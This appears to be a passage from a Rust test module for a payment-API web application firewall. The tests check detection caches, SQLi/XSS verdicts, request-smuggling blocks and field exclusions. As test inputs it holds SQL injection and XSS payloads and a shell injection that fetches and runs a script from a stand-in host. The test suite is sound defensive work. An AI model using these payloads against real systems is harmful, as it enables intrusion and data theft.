            .tx_buf
            .iter()
            .all(|(k, v)| k.capacity() <= MAX_TX_BUF_LEN && v.capacity() <= MAX_TX_BUF_LEN));
        s.give_back();
        // Inspections reusing the vectors agree with the reference path.
        let waf = shared();
        let pieces: &[&[u8]] = &[
            b"a", b"1", b"%27", b"'", b" ", b"tee", b";", b"(", b")", b"=", b"%3c", b"<", b"/", b"..", b"$", b"[x]",
            b"select", b"cat ", b"&", b"+", b"%00", b"\\", b"eval", b"--", b"\"",
        ];
        for _ in 0..20_000 {
            let mut body = Vec::new();
            for i in 0..rng.below(6) {
                if i > 0 {
                    body.push(b'&');
                }
                body.extend_from_slice(&rng.value(pieces));
                body.push(b'=');
                body.extend_from_slice(&rng.value(pieces));
            }
            let req = post("/v1/payment_intents", &body, &[]);
            // With the vectors earlier inspections left, and with new ones (this thread's
            // scratch held aside meanwhile).
            let reused = waf.inspect(&req);
            let held = Scratch::take();
            let fresh = waf.inspect(&req);
            held.give_back();
            assert_eq!(reused, fresh, "{:?}", String::from_utf8_lossy(&body));
            if rng.below(100) == 0 {
                assert_eq!(
                    reused,
                    waf.inspect_exhaustive(&req),
                    "{:?}",
                    String::from_utf8_lossy(&body)
                );
            }
        }
    }

    /// For every collection and atom (all 20 × atoms pairs, some 60,000 cases a
    /// configuration), the groups select exactly the (pipeline, rule) pairs the prefilter's
    /// per-atom list holds for an active rule whose filter reads the collection, each group's
    /// rules in the list's order: with the shipped configuration and with paranoia 1 and some
    /// rules disabled.
    #[test]
    fn atom_groups_select_what_atom_rules_select() {
        let mut other = WafConfig::payment_api();
        other.paranoia = 1;
        other.disabled_rules = vec![932235, 942100, 941100, 920450];
        let second = Waf::with_rules(rules(), other);
        let mut cases = 0usize;
        for w in [shared(), &second] {
            let pf = &w.rules.prefilter;
            assert!(pf.atom_rules.len() > 1000, "{}", pf.atom_rules.len());
            for coll in Coll::ALL {
                let c = coll as usize;
                for (a, pairs) in pf.atom_rules.iter().enumerate() {
                    cases += 1;
                    let want: Vec<(u32, u32)> = pairs
                        .iter()
                        .copied()
                        .filter(|&(_, r)| {
                            w.active[r as usize]
                                && w.rules.rules[r as usize]
                                    .filter
                                    .as_ref()
                                    .is_some_and(|f| f.colls & (1 << c) != 0)
                        })
                        .collect();
                    let groups = w.atom_groups.of(coll, a as u32);
                    let mut got: Vec<(u32, u32)> = Vec::new();
                    for (k, &(pipe, lo, hi)) in groups.iter().enumerate() {
                        assert!(groups[..k].iter().all(|&(p, _, _)| p != pipe), "pipeline twice");
                        assert!(lo < hi, "empty group");
                        let rules = &w.atom_groups.rules[lo as usize..hi as usize];
                        // In the list's order within the group.
                        let order: Vec<u32> = want.iter().filter(|&&(p, _)| p == pipe).map(|&(_, r)| r).collect();
                        assert_eq!(rules, order.as_slice());
                        got.extend(rules.iter().map(|&r| (pipe, r)));
                    }
                    got.sort_unstable();
                    let mut want = want;
                    want.sort_unstable();
                    assert_eq!(got, want, "collection {c}, atom {a}");
                }
            }
        }
        assert!(cases >= 20_000, "{cases}");
    }

    /// Copies into kept buffers are the selected variables, as fresh copies of what
    /// `tx_select` selects are: 20,000 random reads (random maps, keys of every kind) through
    /// one buffer whose earlier contents are longer, shorter or more numerous.
    #[test]
    fn tx_copies_agree_with_fresh_copies() {
        let mut rng = crate::testrng::Rng(0x3c6e_f372_fe94_f82b);
        let words: [&str; 8] = [
            "header_name_920450_",
            "paramcounter_",
            "a",
            "ab",
            "x-",
            "host",
            "0",
            "anomaly_score",
        ];
        let name = |rng: &mut crate::testrng::Rng| -> String {
            (0..=rng.below(3)).map(|_| words[rng.below(words.len())]).collect()
        };
        let keys: Vec<Key> = vec![
            Key::All,
            Key::Name(b"host".to_vec()),
            Key::Name(b"a".to_vec()),
            crate::rules::parse_key_for_tests("/^header_name_920450_/"),
            crate::rules::parse_key_for_tests("/^paramcounter_/"),
            crate::rules::parse_key_for_tests("/HOST/"),
        ];
        let mut buf: Vec<(String, Vec<u8>)> = Vec::new();
        let mut copied = 0usize;
        for _ in 0..20_000 {
            let mut mine = BTreeMap::new();
            let mut base = BTreeMap::new();
            for _ in 0..rng.below(12) {
                mine.insert(name(&mut rng), vec![b'm'; rng.below(40)]);
            }
            for _ in 0..rng.below(12) {
                base.insert(name(&mut rng), vec![b'b'; rng.below(40)]);
            }
            let key = &keys[rng.below(keys.len())];
            let mut fresh: Vec<(String, Vec<u8>)> = Vec::new();
            let vars = tx_vars(&mine);
            tx_select(&vars, &base, key, |k, v| fresh.push((k.clone(), v.clone())));
            let n = tx_copy(&vars, &base, key, &mut buf);
            assert_eq!(&buf[..n], fresh.as_slice());
            copied += n;
        }
        assert!(copied > 20_000, "{copied}");
    }

    /// A read through the engine's variables a key was found to select when the engine was
    /// built ([`tx_select_known`]) selects what testing every variable selects ([`tx_select`]):
    /// the shipped table's keys over the shipped engine's variables, and key expressions over
    /// random engine variables (whose matches are found as the engine finds them), each with
    /// random request variables, some of the same names; about 31,000 reads.
    #[test]
    fn known_base_matches_agree_with_tx_select() {
        let w = shared();
        let shipped: Vec<&Key> = w
            .rules
            .rules
            .iter()
            .flat_map(|r| &r.links)
            .flat_map(|l| &l.targets)
            .filter(|s| matches!(s.src, Src::Tx))
            .map(|s| &s.key)
            .collect();
        assert!(shipped
            .iter()
            .any(|k| matches!(k, Key::Regex(_, KeyHint { base: Some(_), .. }))));
        let exprs = [
            "/^header_name_920450_/",
            "/MULTIPART_HEADERS_CONTENT_TYPES_*/",
            "/rfi_parameter_.*/",
            "/HOST/",
            "/^a/",
            "/^allowed_/",
            "/score$/",
        ];
        let words: Vec<String> =
            w.tx.keys()
                .cloned()
                .chain(
                    [
                        "header_name_920450_",
                        "multipart_headers_content_types",
                        "_",
                        "rfi_parameter_",
                        "host",
                        "a",
                        "0",
                        "score",
                        "allowed_",
                    ]
                    .map(String::from),
                )
                .collect();
        let mut rng = crate::testrng::Rng(0xbb67_ae85_84ca_a73b);
        let name = |rng: &mut crate::testrng::Rng| -> String {
            (0..=rng.below(3))
                .map(|_| words[rng.below(words.len())].as_str())
                .collect()
        };
        let (mut reads, mut selected, mut known_selected) = (0usize, 0usize, 0usize);
        for round in 0..2_000 {
            let mut base: BTreeMap<String, Vec<u8>> = BTreeMap::new();
            for _ in 0..rng.below(16) {
                base.insert(name(&mut rng), vec![b'b', rng.next() as u8]);
            }
            let mut mine = TxVars::default();
            for _ in 0..rng.below(16) {
                let n = if rng.below(3) == 0 {
                    // A name the engine's variables (shipped or random) have too.
                    let pool: Vec<&String> = if round % 2 == 0 {
                        w.tx.keys().collect()
                    } else {
                        base.keys().collect()
                    };
                    match pool.get(rng.below(pool.len().max(1))) {
                        Some(k) => (*k).clone(),
                        None => name(&mut rng),
                    }
                } else {
                    name(&mut rng)
                };
                mine.set(&n).extend_from_slice(&[b'm', rng.next() as u8]);
            }
            let mut check = |key: &Key, base: &BTreeMap<String, Vec<u8>>| {
                let (mut got, mut expected) = (Vec::new(), Vec::new());
                tx_select_known(&mine, base, key, |k, v| got.push((k.clone(), v.clone())));
                tx_select(&mine, base, key, |k, v| expected.push((k.clone(), v.clone())));
                assert_eq!(got, expected, "{key:?}");
                reads += 1;
                selected += expected.len();
                known_selected += expected.iter().filter(|(k, _)| mine.get(k).is_none()).count();
            };
            if round % 2 == 0 {
                for key in &shipped {
                    check(key, &w.tx);
                }
            } else {
                for e in exprs {
                    let mut key = crate::rules::parse_key_for_tests(e);
                    let matched = base_matches(&key, &base);
                    if let Key::Regex(_, hint) = &mut key {
                        hint.base = Some(matched);
                    }
                    check(&key, &base);
                }
            }
        }
        assert!(
            reads > 20_000 && selected > 3_000 && known_selected > 1_000,
            "{reads} reads, {selected} selected, {known_selected} from the engine's variables"
        );
    }

    /// [`TxVars`] holds what a `BTreeMap<String, Vec<u8>>` holds: 2,000 rounds (one set of
    /// variables each, emptied between rounds so that later rounds reuse the buffers of earlier
    /// ones) of 40 random operations each: setting a variable (new or not), looking names up
    /// (the same name again and again, as a capture is read, and others), reading from a name
    /// on, and comparing every variable in order.
    #[test]
    fn tx_vars_agree_with_a_map() {
        let mut rng = crate::testrng::Rng(0x6a09_e667_f3bc_c908);
        let words: [&str; 9] = [
            "0",
            "1",
            "header_name_920450_",
            "host",
            "a",
            "ab",
            "",
            "paramcounter_",
            "x-",
        ];
        let name = |rng: &mut crate::testrng::Rng| -> String {
            (0..=rng.below(3)).map(|_| words[rng.below(words.len())]).collect()
        };
        let mut vars = TxVars::default();
        let (mut sets, mut hits, mut misses) = (0usize, 0usize, 0usize);
        for _ in 0..2_000 {
            let mut map: BTreeMap<String, Vec<u8>> = BTreeMap::new();
            let mut recent = name(&mut rng);
            for _ in 0..40 {
                let n = if rng.below(3) == 0 {
                    recent.clone()
                } else {
                    name(&mut rng)
                };
                match rng.below(4) {
                    0 | 1 => {
                        let value: Vec<u8> = (0..rng.below(12)).map(|_| b'a' + rng.below(26) as u8).collect();
                        vars.set(&n).extend_from_slice(&value);
                        map.insert(n.clone(), value);
                        sets += 1;
                    }
                    2 => {
                        assert_eq!(vars.get(&n), map.get(&n), "{n:?}");
                        assert_eq!(vars.get_key_value(&n), map.get_key_value(&n), "{n:?}");
                        if map.contains_key(&n) {
                            hits += 1;
                        } else {
                            misses += 1;
                        }
                    }
                    _ => {
                        let from: Vec<(&String, &Vec<u8>)> = vars.from(&n).iter().map(|(k, v)| (k, v)).collect();
                        let expected: Vec<(&String, &Vec<u8>)> = map.range(n.clone()..).collect();
                        assert_eq!(from, expected, "from {n:?}");
                    }
                }
                recent = n;
            }
            let live: Vec<(&String, &Vec<u8>)> = vars.live().iter().map(|(k, v)| (k, v)).collect();
            assert_eq!(live, map.iter().collect::<Vec<_>>());
            vars.empty();
            assert!(vars.live().is_empty() && vars.get("0").is_none());
            assert!(vars.vars.len() <= MAX_TX_BUF);
        }
        assert!(
            sets > 30_000 && hits > 5_000 && misses > 5_000,
            "{sets} sets, {hits} hits, {misses} misses"
        );
    }

    /// [`Verdicts::verdict`] gives what a direct, uncached libinjection call gives
    /// (`libinjectionrs::detect_sqli` / `detect_xss`, a panic read as no match) on 30,000
    /// look-ups of both detectors over a pool of 600 values (random SQL and XSS fragments,
    /// each attack paired with a harmless value of its length, the payment API's own values,
    /// and values longer than [`MAX_VERDICT_KEY`]), picked half the time from the last few
    /// picked so that hits, misses and round-robin replacements all happen, and often
    /// with a kept value of the same detector and length but other bytes and verdict.
    #[test]
    fn kept_verdicts_are_fresh_verdicts() {
        let fragments: &[&[u8]] = &[
            b"1",
            b"'",
            b"\"",
            b"--",
            b"#",
            b"/*",
            b"*/",
            b";",
            b" or ",
            b" and ",
            b"1=1",
            b"'1'='1",
            b" union select ",
            b"select ",
            b" from ",
            b"null",
            b"sleep(5)",
            b"@@version",
            b"(",
            b")",
            b"<script>",
            b"</script>",
            b"<img src=x onerror=",
            b"alert(1)",
            b"javascript:",
            b"<svg/onload=",
            b"<!--",
            b"-->",
            b"=",
            b"<",
            b">",
            b"<a href=",
            b"x",
            b"abc",
            b" ",
            b"/",
            b"%",
            b"\\",
        ];
        let fresh = |d: Detector, v: &[u8]| match d {
            Detector::Sqli => guarded(|| libinjectionrs::detect_sqli(v).is_injection()),
            Detector::Xss => guarded(|| libinjectionrs::detect_xss(v).is_injection()),
        };
        let mut rng = crate::testrng::Rng(0x9b05_688c_2b3e_6c1f);
        let mut pool: Vec<Vec<u8>> = vec![
            b"Stripe/v1 PythonBindings/16.1.0".to_vec(),
            b"/v1/payment_intents".to_vec(),
            b"jenny.rosen@example.com".to_vec(),
            b"expand[]".to_vec(),
            b"1' or '1'='1".to_vec(),
            b"<script>alert(1)</script>".to_vec(),
        ];
        while pool.len() < 600 {
            let mut v = Vec::new();
            for _ in 0..1 + rng.below(6) {
                match rng.below(12) {
                    0 => v.push(rng.next() as u8),
                    _ => v.extend_from_slice(fragments[rng.below(fragments.len())]),
                }
            }
            if rng.below(25) == 0 {
                // Longer than the key bound: computed every time, never kept.
                while v.len() <= MAX_VERDICT_KEY {
                    v.extend_from_slice(fragments[rng.below(fragments.len())]);
                }
            }
            if fresh(Detector::Sqli, &v) || fresh(Detector::Xss, &v) {
                // A harmless value of the same length, so that a look-up comparing lengths
                // alone would return the other's verdict.
                pool.push(vec![b'a'; v.len()]);
            }
            pool.push(v);
        }
        let (mut hits, mut misses, mut replaced, mut long, mut decoys, mut detected) = (0, 0, 0, 0, 0, 0);
        let mut recent: Vec<usize> = Vec::new();
        for _ in 0..30_000 {
            let i = if !recent.is_empty() && rng.below(2) == 0 {
                recent[recent.len() - 1 - rng.below(recent.len().min(24))]
            } else {
                rng.below(pool.len())
            };
            recent.push(i);
            let d = if rng.below(2) == 0 {
                Detector::Sqli
            } else {
                Detector::Xss
            };
            let v = &pool[i];
            let expected = fresh(d, v);
            let (kept, full, decoy) = VERDICTS.with(|c| {
                let c = c.borrow();
                let decoy = c
                    .entries
                    .iter()
                    .any(|(kd, kv, kh)| *kd == d && kv.len() == v.len() && kv != v && *kh != expected);
                (c.find(d, v), c.entries.len() == VERDICT_SLOTS, decoy)
            });
            assert_eq!(
                Verdicts::verdict(d, v),
                expected,
                "{d:?} {}",
                String::from_utf8_lossy(v)
            );
            detected += usize::from(expected);
            decoys += usize::from(decoy);
            if v.len() > MAX_VERDICT_KEY {
                long += 1;
                assert_eq!(kept, None, "a long value was kept");
            } else if kept.is_some() {
                hits += 1;
            } else {
                misses += 1;
                replaced += usize::from(full);
            }
            VERDICTS.with(|c| {
                let c = c.borrow();
                assert!(c.entries.len() <= VERDICT_SLOTS);
                assert!(c.entries.iter().all(|(_, kv, _)| kv.len() <= MAX_VERDICT_KEY));
            });
        }
        assert!(
            hits > 5_000 && misses > 5_000 && replaced > 5_000 && long > 500 && decoys > 1_000 && detected > 3_000,
            "{hits} hits, {misses} misses, {replaced} replaced, {long} long, {decoys} decoys, {detected} detected"
        );
    }

    /// [`detect_sqli`] gives `libinjectionrs::detect_sqli`'s verdict (a panic read as no match
    /// by [`guarded`] on both sides) on 40,000 random values: SQL fragments, quotes, comments
    /// (which make the detector parse again as MySQL) and separators, now and then a word of the
    /// table's SQLi expressions or a random byte.
    #[test]
    fn sqli_verdicts_are_detect_sqli_verdicts() {
        let rs = rules();
        let words: Vec<Vec<u8>> = rs
            .rules
            .iter()
            .filter(|r| (942_000..943_000).contains(&r.id))
            .flat_map(|r| r.links.iter())
            .filter_map(|l| match &l.op {
                Op::Rx(re, _) => re.get().ok().map(|r| crate::testrng::words(r.as_str())),
                _ => None,
            })
            .flatten()
            .collect();
        let fragments: &[&[u8]] = &[
            b"1",
            b"'",
            b"\"",
            b"`",
            b"--",
            b"-- ",
            b"#",
            b"/*",
            b"*/",
            b"/*!",
            b";",
            b" or ",
            b" and ",
            b"1=1",
            b"'1'='1",
            b"=",
            b" union select ",
            b"select ",
            b" from ",
            b"null",
            b"sleep(5)",
            b"@@version",
            b"admin",
            b"(",
            b")",
            b",",
            b"1e1",
            b"0x41",
            b".",
            b"@",
            b" ",
            b"||",
            b"&&",
            b"!",
            b"-",
            b"+",
            b"x",
            b"N'",
            b"\\",
            b"%",
            b"\n",
            b"order by 1",
            b"drop table t",
            b"char(65)",
            b"version()",
            b"<>",
        ];
        let mut rng = crate::testrng::Rng(0x510e_527f_ade6_82d1);
        let (mut hits, mut misses) = (0, 0);
        for _ in 0..40_000 {
            let mut v = Vec::new();
            for _ in 0..1 + rng.below(7) {
                match rng.below(10) {
                    0 => v.push(rng.next() as u8),
                    1 => v.extend_from_slice(&words[rng.below(words.len())]),
                    _ => v.extend_from_slice(fragments[rng.below(fragments.len())]),
                }
            }
            let reference = guarded(|| libinjectionrs::detect_sqli(&v).is_injection());
            assert_eq!(
                guarded(|| detect_sqli(&v)),
                reference,
                "{}",
                String::from_utf8_lossy(&v)
            );
            if reference {
                hits += 1;
            } else {
                misses += 1;
            }
        }
        assert!(hits > 4_000 && misses > 4_000, "{hits} {misses}");
    }

    /// `valid_url_encoding` (each `%` found with `memchr`) agrees with a test of every byte on
    /// 30,000 random values of `%`, hex digits, other bytes and escapes, and on every value of
    /// up to four bytes over `%`, `4`, `g`.
    #[test]
    fn url_encoding_check_agrees_with_the_byte_loop() {
        fn reference(v: &[u8]) -> bool {
            let mut i = 0;
            while i < v.len() {
                if v[i] == b'%' {
                    let ok = v.get(i + 1).is_some_and(u8::is_ascii_hexdigit)
                        && v.get(i + 2).is_some_and(u8::is_ascii_hexdigit);
                    if !ok {
                        return false;
                    }
                    i += 3;
                } else {
                    i += 1;
                }
            }
            true
        }
        let pieces: [&[u8]; 12] = [
            b"%",
            b"%4",
            b"%41",
            b"%2f",
            b"%AF",
            b"%g1",
            b"%%",
            b"a",
            b"F",
            b"0",
            b"amount=2000&",
            b"+",
        ];
        let mut rng = crate::testrng::Rng(0x1f83_d9ab_fb41_bd6b);
        let (mut valid, mut invalid) = (0, 0);
        for _ in 0..30_000 {
            let v = rng.value(&pieces);
            let expected = reference(&v);
            assert_eq!(valid_url_encoding(&v), expected, "{v:?}");
            if expected {
                valid += 1;
            } else {
                invalid += 1;
            }
        }
        let mut short: Vec<Vec<u8>> = vec![Vec::new()];
        for _ in 0..4 {
            let longer: Vec<Vec<u8>> = short
                .iter()
                .flat_map(|s| [b'%', b'4', b'g'].map(|b| [s.as_slice(), &[b]].concat()))
                .collect();
            short.extend(longer);
        }
        for v in &short {
            assert_eq!(valid_url_encoding(v), reference(v), "{v:?}");
        }
        assert!(valid > 5_000 && invalid > 5_000, "{valid} {invalid}");
    }

    /// `decimal` writes what `to_string` writes: every number up to 100,000, the largest, and
    /// 20,000 random ones of every magnitude.
    #[test]
    fn decimal_is_to_string() {
        let mut rng = crate::testrng::Rng(0x3c6e_f372_fe94_f82b);
        let mut numbers: Vec<usize> = (0..=100_000).chain([usize::MAX, usize::MAX / 10, 1 << 63]).collect();
        numbers.extend((0..20_000).map(|_| (rng.next() >> rng.below(64)) as usize));
        for n in numbers {
            let mut buf = [0u8; 20];
            assert_eq!(decimal(n, &mut buf), n.to_string().as_bytes(), "{n}");
        }
    }

    /// `parse_num` (up to 18 digits summed directly) gives what trimming and `parse::<i64>`
    /// give, 0 for anything else: on every number up to 100,000 (also with leading zeros), 18-
    /// to 20-digit numbers, and 30,000 random values of digits, signs, spaces and other bytes.
    #[test]
    fn parse_num_agrees_with_parse() {
        fn reference(v: &[u8]) -> i64 {
            std::str::from_utf8(v)
                .ok()
                .and_then(|s| s.trim().parse::<i64>().ok())
                .unwrap_or(0)
        }
        let mut values: Vec<Vec<u8>> = (0..=100_000u32)
            .flat_map(|n| [n.to_string().into_bytes(), format!("{n:07}").into_bytes()])
            .collect();
        for s in [
            "999999999999999999",
            "9999999999999999999",
            "9223372036854775807",
            "9223372036854775808",
            "00000000000000000001",
            "",
        ] {
            values.push(s.as_bytes().to_vec());
        }
        let pieces: &[&[u8]] = &[
            b"0",
            b"1",
            b"9",
            b"42",
            b"123456789",
            b"-",
            b"+",
            b" ",
            b"\t",
            b"x",
            b"\xc3\xa9",
        ];
        let mut rng = crate::testrng::Rng(0xa409_3822_299f_31d0);
        values.extend((0..30_000).map(|_| rng.value(pieces)));
        for v in &values {
            assert_eq!(parse_num(v), reference(v), "{:?}", String::from_utf8_lossy(v));
        }
    }

    #[test]
    fn plain_numbers_are_never_sqli() {
        let mut checked = 0;
        for len in 1..=4u32 {
            for n in 0..10u32.pow(len) {
                let s = format!("{n:0width$}", width = len as usize);
                assert!(plain_number(s.as_bytes()));
                assert!(!libinjectionrs::detect_sqli(s.as_bytes()).is_injection(), "{s} is SQLi");
                checked += 1;
            }
        }
        for s in ["2000", "4242424242424242", "20260624", "99999999999999999999999999"] {
            assert!(!libinjectionrs::detect_sqli(s.as_bytes()).is_injection(), "{s} is SQLi");
        }
        assert!(checked > 10_000);
        assert!(!plain_number(b"") && !plain_number(b"1e5") && !plain_number(b"1 ") && !plain_number(b"0x1"));
    }

    #[test]
    fn smuggling_is_blocked() {
        let w = shared();
        let body = b"amount=1";
        for (what, extra) in [
            (
                "CL and TE",
                vec![("Content-Length", &b"8"[..]), ("Transfer-Encoding", &b"chunked"[..])],
            ),
            (
                "two CLs",
                vec![("Content-Length", &b"8"[..]), ("Content-Length", &b"9"[..])],
            ),
            ("odd TE", vec![("Transfer-Encoding", &b"chunked, identity"[..])]),
        ] {
            let v = w.inspect(&post("/v1/customers", body, &extra));
            assert!(v.blocked, "{what} passed: {v:?}");
            assert_eq!(v.matches.first().map(|m| m.family), Some("protocol"), "{what}");
        }
    }

    #[test]
    fn detect_only_scores_without_blocking() {
        let cfg = WafConfig {
            detect_only: true,
            ..WafConfig::payment_api()
        };
        let w = Waf::with_rules(rules(), cfg);
        let v = w.inspect(&post("/v1/customers?limit=1%27%20OR%201%3D1--", b"", &[]));
        assert!(v.over_threshold && !v.blocked);
    }

    /// Stripe's SDKs send `return_url` with a confirmation: a URL on the merchant's site (or on
    /// localhost in development), which the off-domain inclusion check (931130) and the
    /// localhost SSRF check (934110) blocked. The shipped configuration lets URLs through there,
    /// and only there; script URLs and SQL in it, and inclusions in other fields, still block.
    #[test]
    fn a_return_url_passes_and_other_url_attacks_do_not() {
        let w = shared();
        for (target, body) in [
            (
                "/v1/payment_intents",
                &b"amount=2000&currency=usd&payment_method=pm_123&confirm=true&return_url=https%3A%2F%2Fshop.example.com%2Fcheckout%2Fcomplete%3Forder%3DA-1002"[..],
            ),
            (
                "/v1/payment_intents/pi_123/confirm",
                &b"payment_method=pm_123&return_url=http%3A%2F%2Flocalhost%3A4242%2Freturn"[..],
            ),
        ] {
            let v = w.inspect(&post(target, body, &[]));
            assert!(!v.blocked, "{target}: {v:?}");
        }
        for (what, body) in [
            (
                "remote inclusion in another field",
                &b"payment_method=https%3A%2F%2Fevil.example%2Fshell.txt%3F"[..],
            ),
            ("script URL", &b"return_url=javascript%3Aalert%28document.cookie%29"[..]),
            (
                "SQL in the URL",
                &b"return_url=https%3A%2F%2Fshop.example.com%2F%3Fid%3D1%27%20UNION%20SELECT%20password%20FROM%20users--"[..],
            ),
        ] {
            let v = w.inspect(&post("/v1/payment_intents/pi_123/confirm", body, &[]));
            assert!(v.blocked, "{what} passed: {v:?}");
        }
    }

    /// Merchants' free text holds English words that are also Unix commands, PowerShell aliases
    /// and PHP or SQL function names, which level-1 rules matched ("Sed …" at the start, a line
    /// starting "Find", "real-time", "File (PDF)", "Trim (gold)"), and a browser user agent's
    /// locale token is one (`; sl;`). The shipped configuration lets those through in the
    /// free-text fields and the user agent only; the same text in another field, and shell
    /// syntax, scripts and SQL in the free-text fields, still block.
    #[test]
    fn free_text_with_command_and_function_words_passes_and_attacks_do_not() {
        let w = shared();
        let enc = |pairs: &[(&str, &str)]| -> Vec<u8> {
            form_urlencoded::Serializer::new(String::new())
                .extend_pairs(pairs)
                .finish()
                .into_bytes()
        };
        let words = [
            "Sed ut perspiciatis unde omnis iste natus error.",
            "Delivery notes:\nFind the blue house\nTime: 9am",
            "Gift wrap\nNice ribbon please",
            "Schwester kein Wort.\nDir Minuten holen Dorf.",
            "Enhanced real-time instruction set",
            "File (PDF) download",
            "Ticket, system (L)",
            "Trim (gold) x2",
            "Weekday (Mon-Fri) delivery",
        ];
        for text in words {
            for field in ["description", "metadata[note]", "shipping[address][line2]"] {
                let body = enc(&[("amount", "2000"), ("currency", "usd"), (field, text)]);
                let v = w.inspect(&post("/v1/payment_intents", &body, &[]));
                assert!(!v.blocked, "{field}={text:?}: {v:?}");
            }
            let body = enc(&[("amount", "2000"), ("payment_method", text)]);
            assert!(
                w.inspect(&post("/v1/payment_intents", &body, &[])).blocked,
                "{text:?} passed outside the free-text fields"
            );
        }
        let ua = "Mozilla/5.0 (Windows; U; Windows NT 6.1; sl; rv:1.9.2.3) Gecko/20100401 Firefox/3.6.3";
        let body = enc(&[
            ("payment_method", "pm_123"),
            ("mandate_data[customer_acceptance][type]", "online"),
            ("mandate_data[customer_acceptance][online][user_agent]", ua),
        ]);
        let v = w.inspect(&post("/v1/payment_intents/pi_123/confirm", &body, &[]));
        assert!(!v.blocked, "user agent: {v:?}");
        for attack in [
            "$(curl http://evil.example/x.sh|sh)",
            "x; /bin/sh -c id",
            "<script>alert(1)</script>",
            "<?php echo 1; ?>",
            "1' UNION SELECT password FROM users--",
            "1 and sleep(5)",
        ] {
            let body = enc(&[("amount", "2000"), ("description", attack)]);
            let v = w.inspect(&post("/v1/payment_intents", &body, &[]));
            assert!(v.blocked, "{attack:?} passed in a description: {v:?}");
        }
    }

    #[test]
    fn exclusions_apply_to_their_route_and_fields_only() {
        let body = b"note=1%27%20OR%201%3D1--";
        let base = Waf::with_rules(rules(), WafConfig::default());
        assert!(base.inspect(&post("/v1/x", body, &[])).blocked);
        let cfg = WafConfig {
            exclusions: vec![Exclusion {
                path: "/v1/*".into(),
                methods: vec![],
                fields: vec!["note".into()],
                rules: vec![],
            }],
            ..WafConfig::default()
        };
        let w = Waf::with_rules(rules(), cfg);
        assert!(!w.inspect(&post("/v1/x", body, &[])).blocked);
        assert!(w.inspect(&post("/v2/x", body, &[])).blocked);
        assert!(w.inspect(&post("/v1/x", b"other=1%27%20OR%201%3D1--", &[])).blocked);
    }

    #[test]
    fn limits_are_enforced() {
        let w = shared();
        let long = format!("/v1/customers?q={}", "a".repeat(5000));
        let v = w.inspect(&post(&long, b"", &[]));
        assert!(v.matches.iter().any(|m| m.rule_id == protocol::URI_TOO_LONG));
        let many: String = (0..1100).map(|i| format!("a{i}=1&")).collect();
        let v = w.inspect(&post("/v1/customers", many.as_bytes(), &[]));
        assert!(v.blocked, "too many arguments passed");
    }
}
